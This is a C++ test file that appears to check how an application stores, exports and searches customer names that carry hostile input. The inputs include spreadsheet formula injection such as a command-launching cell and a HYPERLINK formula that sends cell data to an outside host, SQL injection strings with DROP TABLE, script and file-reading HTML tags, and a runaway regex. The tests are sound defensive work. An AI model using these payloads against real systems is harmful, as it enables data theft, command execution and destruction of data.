#include "exchange/csvwriter.h"
#include "services/importing/nasty/nastyinput.h"
#include "services/lists/filterquery.h"
#include "services/lists/list.h"
#include "services/search/find.h"
#include "services/views/views.h"

namespace zhike::testing {

namespace {

/// Stored as it is, and with an apostrophe where a spreadsheet would run it.
NastyRun disarms(const QByteArray& name, const QByteArray& stored)
{
    return [=](NastyTest& test) {
        const QString text = QString::fromUtf8(stored);
        test.expectNamed(name, text);
        EXPECT_NE(guarded(text), text);
        const QByteArray cell = guarded(text).replace(u'"', u"\"\""_s).toUtf8();
        EXPECT_TRUE(test.sheetOfCustomers().contains(cell)) << cell.toStdString();
    };
}
NastyRun disarms(const QByteArray& name)
{
    return disarms(name, name);
}

void keepsANumberBelowZero(NastyTest& test)
{
    EXPECT_EQ(guarded(u"-5"_s), u"-5"_s);
    const auto check
        = checkOrderLog(test.db(), test.orderPlan("1,2024-01-05,A,Ann,-5,2.00,0,USD\n"), NastyTest::author());
    ASSERT_TRUE(check.has_value());
    EXPECT_EQ(check->rowsImported, 1);
    EXPECT_EQ(check->totals.value(u"USD"_s).net, -1000);
}

void quotesWhatAnotherLocaleWouldCut(NastyTest& test)
{
    test.expectNamed("a;=1+1", u"a;=1+1"_s);
    EXPECT_TRUE(test.sheetOfCustomers().contains("\"a;=1+1\""));
}

QStringList foundBy(NastyTest& test, const QString& typed)
{
    QStringList names;
    const auto answer = find(test.db(), typed);
    EXPECT_TRUE(answer.has_value());
    for (const SearchGroup& group : answer.value_or(SearchAnswer()).groups) {
        for (const SearchHit& hit : group.hits) {
            names.append(hit.title);
        }
    }
    return names;
}

QStringList listed(NastyTest& test, const ListQuery& query)
{
    QStringList names;
    const auto rows = snapshot(test.db(), query);
    if (rows) {
        for (size_t i = 0; i < rows->rows.size(); ++i) {
            const auto row = CustomerStore(test.db()).get(CustomerId(rows->rows.id(i)), CustomerId(rows->rows.id(i)));
            names.append(row ? row->details.name : QString());
        }
    }
    return names;
}

QStringList containing(NastyTest& test, const QString& text)
{
    ListQuery query;
    query.filter = Filter::where(u"name"_s, FilterOperator::Contains, {text});
    return listed(test, query);
}

void takesSqlForText(NastyTest& test)
{
    for (const char* name : {"' OR 1=1 --", "\"; DROP TABLE customer; --", "1' UNION SELECT 1"}) {
        test.expectNamed(name, QString::fromUtf8(name));
        EXPECT_EQ(containing(test, QString::fromUtf8(name)), QStringList{QString::fromUtf8(name)});
    }
    const qint64 customers = test.count(u"SELECT count(*) FROM customer"_s);
    EXPECT_LE(foundBy(test, u"' OR 1=1 --"_s).size(), 1);
    ListViewDraft view; // a saved view whose filter names what is no field
    view.name = u"View"_s;
    view.list = int(RecordKind::Customer);
    view.filter = u"{\"field\":\"name; DROP TABLE customer\",\"op\":\"is\",\"values\":[\"a\"]}"_s;
    view.layout = u"{}"_s;
    EXPECT_FALSE(runChange(test.db(), createView(view), NastyTest::author(), NastyTest::now(), kUsd).has_value());
    ListQuery query;
    query.sort = {{u"name; DROP TABLE customer"_s, Qt::AscendingOrder}};
    (void)listed(test, query);
    EXPECT_EQ(test.count(u"SELECT count(*) FROM customer"_s), customers);
}

void takesPatternsForText(NastyTest& test)
{
    for (const char* name : {"100%", "under_score", "back\\slash", "square[bracket"}) {
        test.expectNamed(name, QString::fromUtf8(name));
    }
    test.expectNamed("under-score", u"under-score"_s);
    EXPECT_EQ(containing(test, u"%"_s), QStringList{u"100%"_s});
    EXPECT_EQ(containing(test, u"r_s"_s), QStringList{u"under_score"_s});
    EXPECT_EQ(containing(test, u"\\"_s), QStringList{u"back\\slash"_s});
    EXPECT_EQ(containing(test, u"["_s), QStringList{u"square[bracket"_s});
    EXPECT_TRUE(foundBy(test, u"100%"_s).contains(u"100%"_s));
    EXPECT_TRUE(foundBy(test, u"%"_s).size() <= 1);
}

void takesExpressionsForText(NastyTest& test)
{
    test.expectNamed("(a+)+$", u"(a+)+$"_s);
    const QByteArray endless = QByteArray("a").repeated(299) + '!';
    test.expectNamed(endless, QString::fromLatin1(endless));
    QElapsedTimer clock;
    clock.start();
    EXPECT_EQ(containing(test, u"(a+)+$"_s), QStringList{u"(a+)+$"_s});
    (void)foundBy(test, u"(a+)+$"_s);
    EXPECT_LT(clock.elapsed(), 2000);
}

void refusesDeepFilters(NastyTest&)
{
    const QString deep = u"("_s.repeated(10'000) + u"city=A"_s + u")"_s.repeated(10'000);
    const auto filter = parseFilterQuery(RecordKind::Customer, deep);
    ASSERT_FALSE(filter.has_value());
    EXPECT_EQ(filter.error().code, QueryFaultCode::TooMuch);
}

} // namespace

NastyInputs nastyMarkup()
{
    constexpr auto kPlainEverywhere = "architecture/outsidetext_test.cpp: IsPlainInLabelsAndMessages";
    return {
        {26, "a command", "AX", disarms("=cmd|'/C calc'!A0")},
        {27, "a command behind @", "X", disarms("@SUM(1+1)*cmd|'/C calc'!A0")},
        {28, "a phone with +", "AX", names("+49 30 123")},
        {29, "a number below zero", "A", keepsANumberBelowZero},
        {30, "blank before =", "X", disarms(" =1+1", "=1+1")},
        {30, "tab before =", "X", disarms("\t=1+2", "=1+2")},
        {30, "line break before =", "X", disarms("\r=1+3", "=1+3")},
        {31, "full-width =", "X", disarms("＝1+1")},
        {31, "full-width +", "X", disarms("＋1+1")},
        {31, "full-width -", "X", disarms("－1+1")},
        {31, "full-width @", "X", disarms("＠SUM(1)")},
        {32, "= in quotes", "X", disarms("=1+4")},
        {33, "a link that carries cells away", "X", disarms("=HYPERLINK(\"http://x/?\"&A1)")},
        {34, "a formula behind another separator", "X", quotesWhatAnotherLocaleWouldCut},
        {35, "a script", "X", names("<script>alert(1)</script>"), kPlainEverywhere},
        {35, "a picture from a file", "X", names("<img src=file:///etc/passwd>"), kPlainEverywhere},
        {35, "bold", "X", names("<b>bold</b>"), "architecture/outsidetext_test.cpp: IsPlainInTooltips"},
        {36, "place holders", "A", names("%s %n {0} ${x} {{7*7}} %1")},
        {37, "SQL", "AF", takesSqlForText},
        {38, "signs of patterns", "A", takesPatternsForText},
        {39, "an expression that never ends", "A", takesExpressionsForText},
        {40, "10,000 parentheses", "F", refusesDeepFilters},
    };
}

} // namespace zhike::testing
